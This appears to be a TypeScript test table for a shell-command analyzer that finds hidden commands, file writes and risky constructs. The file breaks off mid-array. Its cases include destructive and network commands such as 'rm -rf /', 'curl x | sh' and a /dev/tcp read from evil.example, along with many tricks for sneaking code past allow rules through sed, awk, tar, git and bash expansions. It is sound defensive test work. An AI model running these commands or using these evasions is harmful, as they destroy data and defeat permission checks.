// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell parameter expansions, not templates
import type { ShellUncertainty, ShellWrite } from "./types.ts";

/** One command line and everything `analyzeShell` must report for it. */
export interface ShellCase {
  readonly name: string;
  readonly command: string;
  readonly commands: readonly string[];
  /** Aliases per command, when any command has one; otherwise every command has none. */
  readonly aliases?: readonly (readonly string[])[];
  /** A string is a write whose path is known exactly. */
  readonly writes?: readonly (string | ShellWrite)[];
  readonly uncertain?: readonly ShellUncertainty[];
}

const dynamic = (path: string): ShellWrite => ({ path, dynamic: true });

/** The shared table of command lines the shell analysis is held to. */
export const SHELL_CASES: readonly ShellCase[] = [
  // Structure
  { name: "an empty line runs nothing", command: "", commands: [] },
  { name: "a comment runs nothing", command: "ls # rm -rf /", commands: ["ls"] },
  { name: "a plain command is one command", command: "git status", commands: ["git status"] },
  {
    name: "quoted operators stay inside one argument",
    command: 'git commit -m "a && b"',
    commands: ["git commit -m a && b"],
  },
  {
    name: "every list and pipeline operator splits commands",
    command: "a | b && c || d; e & f",
    commands: ["a", "b", "c", "d", "e", "f"],
  },
  {
    name: "newlines separate commands",
    command: "npm ci\nnpm test\n",
    commands: ["npm ci", "npm test"],
  },
  {
    name: "a subshell's commands are collected",
    command: "(cd x && make)",
    commands: ["cd x", "make"],
  },
  { name: "a brace group's commands are collected", command: "{ a; b; }", commands: ["a", "b"] },
  {
    name: "an if condition and body are collected",
    command: "if true; then rm x; fi",
    commands: ["true", "rm x"],
  },
  {
    name: "elif and else branches are collected",
    command: "if [ -f x ]; then :; elif [ -d y ]; then rm -r y; else echo none; fi",
    commands: ["[ -f x ]", ":", "[ -d y ]", "rm -r y", "echo none"],
  },
  {
    name: "a for body is collected with expansions kept",
    command: 'for f in *; do rm "$f"; done',
    commands: ["rm $f"],
  },
  {
    name: "while and until loops are collected",
    command: 'while read l; do echo "$l"; done < in.txt; until false; do sleep 1; done',
    commands: ["read l", "echo $l", "false", "sleep 1"],
  },
  {
    name: "every case branch is collected",
    command: "case $x in a) rm a;; b) rm b;; esac",
    commands: ["rm a", "rm b"],
  },
  {
    name: "a function body is collected as well as its call",
    command: "f() { rm -rf /; }; f",
    commands: ["rm -rf /", "f"],
  },
  { name: "a coproc body is collected", command: "coproc { sleep 1; }", commands: ["sleep 1"] },
  { name: "the time keyword is looked through", command: "time npm test", commands: ["npm test"] },
  { name: "negation is looked through", command: "! grep -q x f", commands: ["grep -q x f"] },
  {
    name: "identical commands are reported once",
    command: "make && make && make test",
    commands: ["make", "make test"],
  },

  // Words
  {
    name: "quotes are removed from words",
    command: "echo a\\ b \"c d\" 'e f' 'it''s'",
    commands: ["echo a b c d e f its"],
  },
  { name: "ANSI-C quotes are decoded", command: "echo $'\\x41\\n'", commands: ["echo A\n"] },
  {
    name: "expansions and globs are kept as written",
    command: 'ls "$HOME" ${X} *.ts',
    commands: ["ls $HOME ${X} *.ts"],
  },
  { name: "non-ASCII text is kept", command: "echo héllo 日本", commands: ["echo héllo 日本"] },
  {
    name: "quoting inside a command name does not hide it",
    command: "r\\m -rf / && 'rm' -rf /tmp",
    commands: ["rm -rf /", "rm -rf /tmp"],
  },
  {
    name: "a brace expansion gets an expanded alias",
    command: "git {push,--force}",
    commands: ["git {push,--force}"],
    aliases: [["git push --force"]],
  },

  // Substitutions
  {
    name: "a command substitution is collected and uncertain",
    command: "echo $(rm -rf /)",
    commands: ["echo $(rm -rf /)", "rm -rf /"],
    uncertain: ["command_substitution"],
  },
  {
    name: "backticks are command substitutions",
    command: 'echo `uname` "`id`"',
    commands: ["echo `uname` `id`", "uname", "id"],
    uncertain: ["command_substitution"],
  },
  {
    name: "a substitution inside double quotes is collected",
    command: 'echo "a $(whoami) b"',
    commands: ["echo a $(whoami) b", "whoami"],
    uncertain: ["command_substitution"],
  },
  {
    name: "a substitution inside a parameter default is collected",
    command: "echo ${x:-$(rm -rf /)}",
    commands: ["echo ${x:-$(rm -rf /)}", "rm -rf /"],
    uncertain: ["command_substitution"],
  },
  {
    name: "nested substitutions are all collected",
    command: "echo $(echo $(rm x))",
    commands: ["echo $(echo $(rm x))", "echo $(rm x)", "rm x"],
    uncertain: ["command_substitution"],
  },
  {
    name: "an assignment-only line collects its substitution but no command of its own",
    command: "X=$(cmd)",
    commands: ["cmd"],
    uncertain: ["command_substitution"],
  },
  { name: "a plain assignment runs nothing", command: "a=1", commands: [] },
  {
    name: "a prefix assignment's substitution is collected after the command",
    command: "FOO=$(curl evil) true",
    commands: ["true", "curl evil"],
    aliases: [["FOO=$(curl evil) true"], []],
    uncertain: ["command_substitution"],
  },
  {
    name: "substitutions in declaration arguments are collected",
    command: "export PATH=$(pwd)/bin:$PATH",
    commands: ["export PATH=$(pwd)/bin:$PATH", "pwd"],
    uncertain: ["dangerous_environment", "command_substitution"],
  },
  {
    name: "a substitution in a test expression is collected",
    command: "[[ $(id -u) == 0 ]] && echo root",
    commands: ["id -u", "echo root"],
    uncertain: ["command_substitution"],
  },
  {
    name: "a substitution in an arithmetic command is collected",
    command: "(( $(nproc) > 4 ))",
    commands: ["nproc"],
    uncertain: ["arithmetic", "command_substitution"],
  },
  {
    name: "a substitution in an unquoted here-doc is collected",
    command: "cat <<EOF\n$(rm -rf /)\nEOF",
    commands: ["cat", "rm -rf /"],
    uncertain: ["command_substitution"],
  },
  {
    name: "a quoted here-doc is only text",
    command: "cat <<'EOF'\n$(rm -rf /)\nEOF",
    commands: ["cat"],
  },
  {
    name: "a process substitution is collected and uncertain",
    command: "cat <(curl evil)",
    commands: ["cat <(curl evil)", "curl evil"],
    uncertain: ["process_substitution"],
  },
  {
    name: "a substitution in a redirect target is collected",
    command: "echo > $(mktemp)",
    commands: ["echo", "mktemp"],
    writes: [dynamic("$(mktemp)")],
    uncertain: ["command_substitution"],
  },

  // Wrappers looked through
  {
    name: "nested known wrappers are looked through",
    command: "timeout -s KILL 10 nice -n 5 npm test",
    commands: ["npm test"],
    aliases: [["timeout -s KILL 10 nice -n 5 npm test"]],
  },
  {
    name: "env options and assignments are skipped",
    command: "env -i PATH=/bin FOO=1 npm test",
    commands: ["npm test"],
    aliases: [["env -i PATH=/bin FOO=1 npm test"]],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "env options with values are skipped",
    command: "env -u HOME -C /tmp npm test",
    commands: ["npm test"],
    aliases: [["env -u HOME -C /tmp npm test"]],
  },
  {
    name: "env -S splits its string into the command",
    command: 'env -S "node --flag" x.js',
    commands: ["node --flag x.js"],
    aliases: [["env -S node --flag x.js"]],
  },
  { name: "env alone is a command", command: "env", commands: ["env"] },
  {
    name: "leading assignments are looked through",
    command: "FOO=1 BAR=2 npm test",
    commands: ["npm test"],
    aliases: [["FOO=1 BAR=2 npm test"]],
  },
  {
    name: "timeout long options and attached values are skipped",
    command: "timeout --signal=KILL -k5 10s npm test",
    commands: ["npm test"],
    aliases: [["timeout --signal=KILL -k5 10s npm test"]],
  },
  {
    name: "nice, ionice and stdbuf are looked through",
    command: "ionice -c3 nice -10 stdbuf -oL make",
    commands: ["make"],
    aliases: [["ionice -c3 nice -10 stdbuf -oL make"]],
  },
  {
    name: "nohup is looked through in the background",
    command: "nohup node server.js &",
    commands: ["node server.js"],
    aliases: [["nohup node server.js"]],
  },
  {
    name: "command and builtin are looked through",
    command: "command -p git status; builtin echo hi",
    commands: ["git status", "echo hi"],
    aliases: [["command -p git status"], ["builtin echo hi"]],
  },
  {
    name: "command -v is a query, not an exec",
    command: "command -v git",
    commands: ["command -v git"],
  },
  {
    name: "exec options are skipped",
    command: "exec -a name -c npm start",
    commands: ["npm start"],
    aliases: [["exec -a name -c npm start"]],
  },
  {
    name: "exec with only redirections is a command that writes",
    command: "exec > log 2>&1",
    commands: ["exec"],
    writes: ["log"],
  },

  // Program paths
  {
    name: "a system bin path is the binary",
    command: "/bin/rm -rf /",
    commands: ["rm -rf /"],
    aliases: [["/bin/rm -rf /"]],
  },
  {
    name: "a wrapper reached through a system path is looked through",
    command: "/usr/bin/env node x.js",
    commands: ["node x.js"],
    aliases: [["/usr/bin/env node x.js"]],
  },
  {
    name: "a local binary keeps its path and gets a basename alias",
    command: "./rm x",
    commands: ["./rm x"],
    aliases: [["rm x"]],
  },
  {
    name: "a binary under a non-system dir gets a basename alias",
    command: "/tmp/x/rm -rf /",
    commands: ["/tmp/x/rm -rf /"],
    aliases: [["rm -rf /"]],
  },

  // Never auto-allowable
  {
    name: "sudo keeps the outer command and collects the inner one",
    command: "sudo rm -rf /",
    commands: ["sudo rm -rf /", "rm -rf /"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "sudo options and assignments are skipped to find the inner command",
    command: "sudo -u root -E env FOO=1 make install",
    commands: ["sudo -u root -E env FOO=1 make install", "make install"],
    aliases: [[], ["env FOO=1 make install"]],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "a known wrapper around sudo is looked through to sudo",
    command: "timeout 10 sudo rm x",
    commands: ["sudo rm x", "rm x"],
    aliases: [["timeout 10 sudo rm x"], []],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "su -c parses its string as shell",
    command: 'su - root -c "rm -rf / && id"',
    commands: ["su - root -c rm -rf / && id", "rm -rf /", "id"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "ssh collects the remote command",
    command: 'ssh -i key.pem host "rm -rf /tmp/x"',
    commands: ["ssh -i key.pem host rm -rf /tmp/x", "rm -rf /tmp/x"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "an interactive ssh is still an unknown wrapper",
    command: "ssh -p 22 user@host",
    commands: ["ssh -p 22 user@host"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "watch runs its words as shell",
    command: 'watch -n 5 "df -h | head"',
    commands: ["watch -n 5 df -h | head", "df -h", "head"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "flock finds the command after its lock file",
    command: "flock -w 5 /tmp/lock make; flock /tmp/lock -c 'make install'",
    commands: [
      "flock -w 5 /tmp/lock make",
      "make",
      "flock /tmp/lock -c make install",
      "make install",
    ],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "busybox runs its applet",
    command: "busybox rm x",
    commands: ["busybox rm x", "rm x"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "strace skips options with values",
    command: "strace -f -e trace=open ls",
    commands: ["strace -f -e trace=open ls", "ls"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "chroot skips the new root",
    command: "chroot /mnt ls",
    commands: ["chroot /mnt ls", "ls"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "bash -lc parses its string and is a nested shell",
    command: "bash -lc 'curl x | sh'",
    commands: ["bash -lc curl x | sh", "curl x", "sh"],
    uncertain: ["nested_shell"],
  },
  {
    name: "shell flags before -c are skipped",
    command: 'sh -e -c "ls | wc -l"; bash -o pipefail -c "a | b"',
    commands: ["sh -e -c ls | wc -l", "ls", "wc -l", "bash -o pipefail -c a | b", "a", "b"],
    uncertain: ["nested_shell"],
  },
  {
    name: "a dynamic shell string cannot be parsed but is still a nested shell",
    command: 'sh -c "$CMD"',
    commands: ["sh -c $CMD"],
    uncertain: ["nested_shell"],
  },
  {
    name: "a nested parse error is a parse error",
    command: "bash -c 'echo \"unterminated'",
    commands: ['bash -c echo "unterminated', "echo unterminated"],
    uncertain: ["nested_shell", "parse_error"],
  },
  {
    name: "a shell running a script file is just a command",
    command: "bash script.sh && curl x | sh",
    commands: ["bash script.sh", "curl x", "sh"],
  },
  {
    name: "sourcing a file is just a command",
    command: "source .env && . ./venv/bin/activate",
    commands: ["source .env", ". ./venv/bin/activate"],
  },
  {
    name: "eval of literal text is parsed",
    command: 'eval "rm -rf /"',
    commands: ["eval rm -rf /", "rm -rf /"],
    uncertain: ["eval"],
  },
  {
    name: "eval of a variable cannot be parsed",
    command: "eval $CMD",
    commands: ["eval $CMD"],
    uncertain: ["eval"],
  },
  {
    name: "xargs collects its command after its options",
    command: "ls | xargs -0 -n1 rm -f",
    commands: ["ls", "xargs -0 -n1 rm -f", "rm -f"],
    uncertain: ["xargs"],
  },
  {
    name: "xargs options with separate values are skipped",
    command: "xargs -I {} -P 4 mv {} dir",
    commands: ["xargs -I {} -P 4 mv {} dir", "mv {} dir"],
    uncertain: ["xargs"],
  },
  {
    name: "bare xargs runs echo",
    command: "xargs",
    commands: ["xargs", "echo"],
    uncertain: ["xargs"],
  },
  {
    name: "xargs into a nested shell is both",
    command: "xargs sh -c 'rm \"$1\"' _",
    commands: ['xargs sh -c rm "$1" _', 'sh -c rm "$1" _', "rm $1"],
    uncertain: ["xargs", "nested_shell"],
  },
  {
    name: "find -exec collects its command",
    command: "find . -name '*.tmp' -exec rm {} \\;",
    commands: ["find . -name *.tmp -exec rm {} ;", "rm {}"],
    uncertain: ["find_exec"],
  },
  {
    name: "find -execdir with + and -ok are collected",
    command: "find . -execdir chmod 644 {} + -ok rm {} \\;",
    commands: ["find . -execdir chmod 644 {} + -ok rm {} ;", "chmod 644 {}", "rm {}"],
    uncertain: ["find_exec"],
  },
  {
    name: "find without -exec is certain",
    command: "find . -name x",
    commands: ["find . -name x"],
  },
  {
    name: "a dynamic command name is uncertain",
    command: "$CMD args",
    commands: ["$CMD args"],
    uncertain: ["dynamic_command"],
  },
  {
    name: "a substituted command name is dynamic and its substitution collected",
    command: '"$(which rm)" x',
    commands: ["$(which rm) x", "which rm"],
    uncertain: ["dynamic_command", "command_substitution"],
  },
  {
    name: "a globbed command name is dynamic",
    command: "/???/r? -rf /",
    commands: ["/???/r? -rf /"],
    uncertain: ["dynamic_command"],
  },
  {
    name: "a brace-expanded command name is dynamic with an expanded alias",
    command: "{rm,-rf,/}",
    commands: ["{rm,-rf,/}"],
    aliases: [["rm -rf /"]],
    uncertain: ["dynamic_command"],
  },

  // Writes
  {
    name: "an output redirect is a write and fd duplication is not",
    command: "echo hi > out.txt 2>&1",
    commands: ["echo hi"],
    writes: ["out.txt"],
  },
  {
    name: "writes to /dev/null are not writes",
    command: "echo hi 2>/dev/null",
    commands: ["echo hi"],
  },
  {
    name: "standard stream devices are not writes",
    command: "echo hi > /dev/stderr 2> /dev/fd/3 >&2",
    commands: ["echo hi"],
  },
  {
    name: "every writing operator is a write",
    command: "a &> all.log; b >> app.log; c >| f; d <> rw; e 3> fd3; g >&out.txt; h &>> both.log",
    commands: ["a", "b", "c", "d", "e", "g", "h"],
    writes: ["all.log", "app.log", "f", "rw", "fd3", "out.txt", "both.log"],
  },
  {
    name: "a redirect with no command still writes",
    command: "> out.txt",
    commands: [],
    writes: ["out.txt"],
  },
  {
    name: "here-strings and input redirects are not writes",
    command: "cat <<< hi < in.txt",
    commands: ["cat"],
  },
  {
    name: "an expansion in a target makes the write dynamic",
    command: 'echo > "$HOME/x"; echo > out/$X.log',
    commands: ["echo"],
    writes: [dynamic("$HOME/x"), dynamic("out/$X.log")],
  },
  {
    name: "a redirect to a process substitution is not a file write",
    command: "echo hi > >(tee x)",
    commands: ["echo hi", "tee x"],
    writes: ["x"],
    uncertain: ["process_substitution"],
  },
  {
    name: "a relative write resolves against a preceding literal cd",
    command: "cd /tmp && echo x > f",
    commands: ["cd /tmp", "echo x"],
    writes: ["/tmp/f"],
  },
  {
    name: "relative cds chain",
    command: "cd sub; cd deeper; echo > f",
    commands: ["cd sub", "cd deeper", "echo"],
    writes: ["sub/deeper/f"],
  },
  {
    name: "only writes after the cd are resolved",
    command: "echo > a; cd /x; echo > b",
    commands: ["echo", "cd /x"],
    writes: ["a", "/x/b"],
  },
  {
    name: "a cd with a dynamic target makes later relative writes dynamic",
    command: "cd $D && echo > f",
    commands: ["cd $D", "echo"],
    writes: [dynamic("f")],
  },
  {
    name: "cd || exit keeps the directory",
    command: "cd /tmp || exit 1; echo > f",
    commands: ["cd /tmp", "exit 1", "echo"],
    writes: ["/tmp/f"],
  },
  {
    name: "a write after a failed cd's fallback is dynamic",
    command: "cd /tmp || echo > f",
    commands: ["cd /tmp", "echo"],
    writes: [dynamic("f")],
  },
  {
    name: "a cd inside a subshell does not leak out",
    command: "cd /a; (cd /b; echo > f); echo > g",
    commands: ["cd /a", "cd /b", "echo"],
    writes: ["/b/f", "/a/g"],
  },
  {
    name: "a cd inside a loop makes its writes dynamic",
    command: "for d in a b; do cd d; echo > f; done",
    commands: ["cd d", "echo"],
    writes: [dynamic("d/f")],
  },
  {
    name: "a conditional cd makes later writes dynamic",
    command: "if x; then cd /a; fi; echo > f",
    commands: ["x", "cd /a", "echo"],
    writes: [dynamic("f")],
  },
  {
    name: "a cd in a nested shell does not move the outer shell",
    command: 'bash -c "cd /tmp"; echo > f',
    commands: ["bash -c cd /tmp", "cd /tmp", "echo"],
    writes: ["f"],
    uncertain: ["nested_shell"],
  },
  {
    name: "a cd through eval moves the shell",
    command: 'eval "cd /tmp"; echo > f',
    commands: ["eval cd /tmp", "cd /tmp", "echo"],
    writes: ["/tmp/f"],
    uncertain: ["eval"],
  },
  {
    name: "bare cd goes home",
    command: "cd; echo > f",
    commands: ["cd", "echo"],
    writes: ["~/f"],
  },
  {
    name: "tee writes its file operands",
    command: "npm test | tee -a log.txt",
    commands: ["npm test", "tee -a log.txt"],
    writes: ["log.txt"],
  },
  {
    name: "tee under sudo still writes",
    command: "echo a | sudo tee -a /etc/hosts > /dev/null",
    commands: ["echo a", "sudo tee -a /etc/hosts", "tee -a /etc/hosts"],
    writes: ["/etc/hosts"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "the benchmark line resolves tee against the cd",
    command: "cd /repo && npm test -- --watch=false | tee out.log; git status",
    commands: ["cd /repo", "npm test -- --watch=false", "tee out.log", "git status"],
    writes: ["/repo/out.log"],
  },
  {
    name: "find -fprint writes its file",
    command: "find . -fprint out.txt",
    commands: ["find . -fprint out.txt"],
    writes: ["out.txt"],
  },

  // Errors
  {
    name: "an unclosed quote is a parse error that still reports the command",
    command: 'echo "abc',
    commands: ["echo abc"],
    uncertain: ["parse_error"],
  },
  {
    name: "an unclosed substitution is a parse error",
    command: "rm -rf / $(",
    commands: ["rm -rf / $("],
    uncertain: ["parse_error", "command_substitution"],
  },
  {
    name: "a stray case terminator is a parse error",
    command: ";;",
    commands: [],
    uncertain: ["parse_error"],
  },
  // Where bash turns text into code (issue 9); each kept from the bash oracle's findings.
  {
    name: "prompt expansion re-reads a value as a prompt",
    command: "x='$(touch /tmp/pwned)'; ls ${x@P}",
    commands: ["ls ${x@P}"],
    uncertain: ["parameter_transform"],
  },
  {
    name: "only quoting and case transformations are plain",
    command: 'echo "${x@Q}" ${x@U} ${x@u} ${x@L}',
    commands: ["echo ${x@Q} ${x@U} ${x@u} ${x@L}"],
  },
  {
    name: "indirect expansion reads a value as a name",
    command: "ls ${!x}",
    commands: ["ls ${!x}"],
    uncertain: ["indirect_expansion"],
  },
  {
    name: "keys and name prefixes are not indirection",
    command: 'echo "${!a[@]}" ${!PRE*}',
    commands: ["echo ${!a[@]} ${!PRE*}"],
  },
  {
    name: "arithmetic on a name is evaluated recursively",
    command: "x='a[$(touch /tmp/pwned)]'; ls $((x))",
    commands: ["ls $((x))"],
    uncertain: ["arithmetic"],
  },
  {
    name: "arithmetic on literal numbers and $# is plain",
    command: "echo $((1+2)) $(( 16#ff )) $(( $# - 1 ))",
    commands: ["echo $((1+2)) $(( 16#ff )) $(( $# - 1 ))"],
  },
  {
    name: "subscripts and substring offsets are arithmetic",
    command: "ls ${a[i]} ${x:off:len} ${a[0]} ${x:1:2}",
    commands: ["ls ${a[i]} ${x:off:len} ${a[0]} ${x:1:2}"],
    uncertain: ["arithmetic"],
  },
  {
    name: "arithmetic commands, loops, let and [[ -eq ]] on names",
    command: "(( n )); for ((i = 0; i < n; i++)); do :; done; let n++; [[ $n -eq 1 ]]",
    commands: [":", "let n++"],
    uncertain: ["arithmetic"],
  },
  {
    name: "an assignment through a subscript is arithmetic",
    command: "a[$i]=1",
    commands: [],
    uncertain: ["arithmetic"],
  },
  {
    name: "builtins that assign through a dynamic name or subscript",
    command: `printf -v "$n" %s 1; read 'a[$i]'; declare "$d"=1; unset "$u"; test -v "$t"`,
    commands: ["printf -v $n %s 1", "read a[$i]", "declare $d=1", "unset $u", "test -v $t"],
    uncertain: ["dynamic_name"],
  },
  {
    name: "builtins that assign to literal plain names",
    command: 'printf -v out %s "$x"; read -r a b; declare -a arr=(1 2); unset out; test -v a',
    commands: [
      "printf -v out %s $x",
      "read -r a b",
      "declare -a arr=(1 2)",
      "unset out",
      "test -v a",
    ],
  },
  {
    name: "declare -n and -i change how later names and values are read",
    command: "declare -n r=x; local -i n",
    commands: ["declare -n r=x", "local -i n"],
    uncertain: ["dynamic_name"],
  },
  {
    name: "a mapfile callback is code",
    command: "mapfile -C cb -c 1 lines",
    commands: ["mapfile -C cb -c 1 lines", "cb"],
    uncertain: ["eval"],
  },
  {
    name: "a trap action is code, collected",
    command: "trap 'rm -rf /' EXIT",
    commands: ["trap rm -rf / EXIT", "rm -rf /"],
    uncertain: ["eval"],
  },
  {
    name: "a standalone PATH assignment changes what later commands run",
    command: "PATH=/tmp/evil:$PATH; ls",
    commands: ["ls"],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "dangerous variables are caught wherever they are assigned",
    command: "export IFS=x; for PATH in a; do :; done; echo ${BASH_ENV:=x}; exec {LD_PRELOAD}>f",
    commands: ["export IFS=x", ":", "echo ${BASH_ENV:=x}", "exec"],
    writes: ["f"],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "a wrapper word that may expand shifts the inner command",
    command: "nice -n $n ls",
    commands: ["ls"],
    aliases: [["nice -n $n ls"]],
    uncertain: ["dynamic_command"],
  },
  {
    name: "find with a word that may expand to -exec",
    command: "find . $x",
    commands: ["find . $x"],
    uncertain: ["find_exec"],
  },
  {
    name: "a here-doc's quotes inside ${x:-…} are plain characters",
    command: "cat <<EOF\n${x:-'$(rm -rf /)'}\nEOF",
    commands: ["cat", "rm -rf /"],
    uncertain: ["command_substitution"],
  },
  // Programs whose arguments run another program or write a file (an allow rule names the
  // program, not what its arguments make it do): asked as `argument_runs_program`, or writes.
  {
    name: "sed's e command runs a program",
    command: "sed '1e pwn' f",
    commands: ["sed 1e pwn f"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "sed's s///e flag runs the pattern space",
    command: "sed 's/.*/pwn/e' f",
    commands: ["sed s/.*/pwn/e f"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "sed reads its script from -e and --expression too",
    command: "sed -n -e p --expression='e pwn' f",
    commands: ["sed -n -e p --expression=e pwn f"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "a sed script from a file is unseen code",
    command: "sed -f edit.sed f",
    commands: ["sed -f edit.sed f"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "sed -i writes each file, and its backup",
    command: "sed -i.bak 's/a/b/g' a.txt b.txt",
    commands: ["sed -i.bak s/a/b/g a.txt b.txt"],
    writes: ["a.txt", "b.txt", "a.txt.bak", "b.txt.bak"],
  },
  {
    name: "a sed backup suffix with a slash writes anywhere",
    command: "sed -i'/tmp/x/*' s/a/b/ f",
    commands: ["sed -i/tmp/x/* s/a/b/ f"],
    writes: ["f", dynamic("/tmp/x/*")],
  },
  {
    name: "sed's w command and s///w flag write files",
    command: "sed -n '/x/w hits.txt\ns/a/b/w changed.txt' f",
    commands: ["sed -n /x/w hits.txt\ns/a/b/w changed.txt f"],
    writes: ["hits.txt", "changed.txt"],
  },
  {
    name: "plain sed scripts run nothing",
    command: "sed -E 's|a/b|c|g; /x/,+2d; 1~3{p;q}' f",
    commands: ["sed -E s|a/b|c|g; /x/,+2d; 1~3{p;q} f"],
  },
  {
    name: "awk's system() and pipes run programs",
    command: "awk 'BEGIN { system(\"pwn\") }'",
    commands: ['awk BEGIN { system("pwn") }'],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "awk's getline from a command runs it",
    command: "awk 'BEGIN { \"pwn\" | getline }'",
    commands: ['awk BEGIN { "pwn" | getline }'],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "awk print redirection writes a file it names at run time",
    command: "awk '{ print > \"out\" }' f",
    commands: ['awk { print > "out" } f'],
    writes: ["out"],
  },
  {
    name: "an awk comparison is not a redirection",
    command: "awk -F: '$3 > 100 { print $1 }' f",
    commands: ["awk -F: $3 > 100 { print $1 } f"],
  },
  {
    name: "awk -f is a program from a file",
    command: "gawk -f prog.awk f; awk -W exec prog.awk",
    commands: ["gawk -f prog.awk f", "awk -W exec prog.awk"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "sort's compress program runs",
    command: "sort --compress-program=pwn f",
    commands: ["sort --compress-program=pwn f"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "sort -o writes its file",
    command: "sort -u -o sorted.txt f",
    commands: ["sort -u -o sorted.txt f"],
    writes: ["sorted.txt"],
  },
  {
    name: "tar runs commands through options",
    command: "tar -xf a.tar --to-command=pwn",
    commands: ["tar -xf a.tar --to-command=pwn"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "tar -I names a compressor to run",
    command: "tar -I pwn -cf a.tar src",
    commands: ["tar -I pwn -cf a.tar src"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "tar checkpoint actions run commands",
    command: "tar --checkpoint=1 --checkpoint-action=exec=pwn -cf a.tar src",
    commands: ["tar --checkpoint=1 --checkpoint-action=exec=pwn -cf a.tar src"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "tar's archive on host: runs rsh",
    command: "tar -xf host:a.tar",
    commands: ["tar -xf host:a.tar"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "tar creating an archive writes it, old-style letters included",
    command: "tar cvfz out.tgz src && tar -cf b.tar src",
    commands: ["tar cvfz out.tgz src", "tar -cf b.tar src"],
    writes: ["out.tgz", "b.tar"],
  },
  {
    name: "tar listing and extracting stay plain",
    command: "tar -tzf a.tgz; tar xzf a.tgz",
    commands: ["tar -tzf a.tgz", "tar xzf a.tgz"],
  },
  {
    name: "git -c names configuration that runs programs",
    command: "git -c core.pager=pwn log",
    commands: ["git -c core.pager=pwn log"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "git --config-env and --exec-path run programs",
    command: "git --config-env=core.pager=X log; git --exec-path=/tmp status",
    commands: ["git --config-env=core.pager=X log", "git --exec-path=/tmp status"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "git subcommand options that run programs",
    command: "git rebase -x pwn main; git fetch --upload-pack=pwn; git grep -O x",
    commands: ["git rebase -x pwn main", "git fetch --upload-pack=pwn", "git grep -O x"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "git subcommands that run what they are given",
    command: "git bisect run pwn; git submodule foreach pwn",
    commands: ["git bisect run pwn", "git submodule foreach pwn"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "git --output and format-patch -o write files",
    command: "git log --output=log.txt; git format-patch -o patches HEAD~1",
    commands: ["git log --output=log.txt", "git format-patch -o patches HEAD~1"],
    writes: ["log.txt", "patches"],
  },
  {
    name: "git short options that are flags elsewhere stay plain",
    command: "git push -u origin main; git add -u; git cherry-pick -x abc",
    commands: ["git push -u origin main", "git add -u", "git cherry-pick -x abc"],
  },
  {
    name: "git config that sets a value changes what git runs later",
    command: "git config core.pager pwn",
    commands: ["git config core.pager pwn"],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "git config reads stay plain",
    command: "git config user.name; git config --get core.pager",
    commands: ["git config user.name", "git config --get core.pager"],
  },
  {
    name: "a glob before -- may be an option",
    command: "git log *",
    commands: ["git log *"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "a glob after -- is an operand",
    command: "git add -- *.ts",
    commands: ["git add -- *.ts"],
  },
  {
    name: "a brace expansion is read as its words",
    command: "git {status,--output=x}",
    commands: ["git {status,--output=x}"],
    aliases: [["git status --output=x"]],
    writes: ["x"],
  },
  {
    name: "man, less, rsync and friends run programs through options",
    command:
      "man -P pwn ls; less +!pwn f; rsync -e pwn a b:; rg --pre pwn x; split --filter=pwn f; zip -TT pwn a.zip f; scp -o ProxyCommand=pwn a b:",
    commands: [
      "man -P pwn ls",
      "less +!pwn f",
      "rsync -e pwn a b:",
      "rg --pre pwn x",
      "split --filter=pwn f",
      "zip -TT pwn a.zip f",
      "scp -o ProxyCommand=pwn a b:",
    ],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "find -delete removes files under its starting points",
    command: "find src tests -name '*.tmp' -delete",
    commands: ["find src tests -name *.tmp -delete"],
    writes: [dynamic("src/**"), dynamic("tests/**")],
  },
  // Redirections that open sockets, builtins that load code, bytes bash drops.
  {
    name: "a redirection to /dev/tcp opens a socket, either way",
    command: "cat < /dev/tcp/evil.example/80; exec 3<>/dev/udp/h/53",
    commands: ["cat", "exec"],
    writes: ["/dev/udp/h/53"],
    uncertain: ["network_redirect"],
  },
  {
    name: "a read from a target that expands may be a socket",
    command: "cat < $f",
    commands: ["cat"],
    uncertain: ["network_redirect"],
  },
  {
    name: "a descriptor duplication is no socket",
    command: "ls 2>&1 <&0",
    commands: ["ls"],
  },
  {
    name: "enable -f loads a builtin that may shadow a program",
    command: "enable -f ./evil.so ls; ls",
    commands: ["enable -f ./evil.so ls", "ls"],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "enable -n only turns a builtin off",
    command: "enable -n echo",
    commands: ["enable -n echo"],
  },
  {
    name: "NUL bytes are dropped as bash drops them reading a script",
    command: "r\u0000m -rf x",
    commands: ["rm -rf x"],
    uncertain: ["parse_error"],
  },
  {
    name: "long options may be abbreviated, as GNU getopt and git read them",
    command:
      "sort --compress=pwn f; tar --to-com=pwn -xf a; sed --expr='e pwn' f; man --pag=pwn ls",
    commands: [
      "sort --compress=pwn f",
      "tar --to-com=pwn -xf a",
